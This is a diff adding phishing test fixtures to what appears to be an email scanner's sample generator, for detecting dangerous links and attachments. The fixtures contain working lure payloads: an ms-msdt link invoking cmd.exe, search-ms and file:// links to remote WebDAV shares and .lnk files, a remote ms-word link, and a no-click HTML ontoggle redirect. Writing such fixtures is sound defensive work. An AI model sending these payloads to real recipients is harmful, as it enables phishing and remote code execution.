@@ -2727,6 +2727,41 @@ def review37_samples():
                "I recorded a video of you on your webcam. Pay: bitcoin:"
                "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh?amount=0.05",
                "threat", "content.extortion")
+    # Review 40: a '|' in a Windows tool's link, a decoy location before
+    # the share, a name ending in a dot, an Office link to a document
+    # on a stranger's site: all the same links.
+    html_mail("en-445-msdt-pipe.eml",
+              "ms-msdt:/id PCWDiagnostic /skip force /param \"IT_BrowseForFile"
+              "=cmd.exe|Out-Null\"", "threat", "url.local_handler")
+    html_mail("en-446-search-ms-decoy.eml",
+              "search-ms:displayname=location:Documents&amp;crumb=location:"
+              "%5C%5C45.88.97.12%40SSL%5CDavWWWRoot", "threat",
+              "url.local_handler")
+    html_mail("en-447-file-trailing-dot.eml",
+              "file://files.dav-share.top./DavWWWRoot/Invoice.pdf.lnk",
+              "threat", "url.local_handler")
+    html_mail("en-448-office-link-remote.eml",
+              "ms-word:ofe|u|https://docs-remit.top/Invoice.docx",
+              "threat", "url.local_handler")
+    # An Internet shortcut with a NUL in a comment and blanks in its
+    # section's brackets is read as Windows reads it.
+    mail("en-449-urlfile-nul.eml", "Documents.url",
+         "application/octet-stream",
+         "; note\x00\r\n[ InternetShortcut ]\r\nURL=file://45.88.97.12/"
+         "share/Invoice.pdf.lnk\r\n", "threat", "url.local_handler")
+    # An element's handler that runs with no click (a <details open>
+    # toggling as the page loads) redirects as onload does.
+    mail("en-450-html-ontoggle.eml", "Remittance.html", "text/html",
+         "<!DOCTYPE html><html><body><details open ontoggle=\"location."
+         "replace('%s')\"><summary>x</summary></details></body></html>"
+         % url, "threat", "attach.html_redirect")
+    # A correspondent's own file server written as a path is its own.
+    write("en-451-clean-corr-share-path.eml",
+          headers("Emily Chen <emily.chen@fabrikam.com>", "Files") +
+          "Content-Type: text/html; charset=utf-8\n\n<html><body><p>The "
+          "files are on <a href=\"\\\\fs01.fabrikam.com\\projects\\"
+          "contoso\">our share</a>.</p></body></html>\n",
+          "clean", "!url.local_handler")
     # A click link whose destination is in base64 (Bing's u=a1...).
     html_mail("en-413-base64-redirect.eml",
               "https://www.bing.com/ck/a?!&amp;&amp;p=3f9c&amp;u=a1%s&amp;"
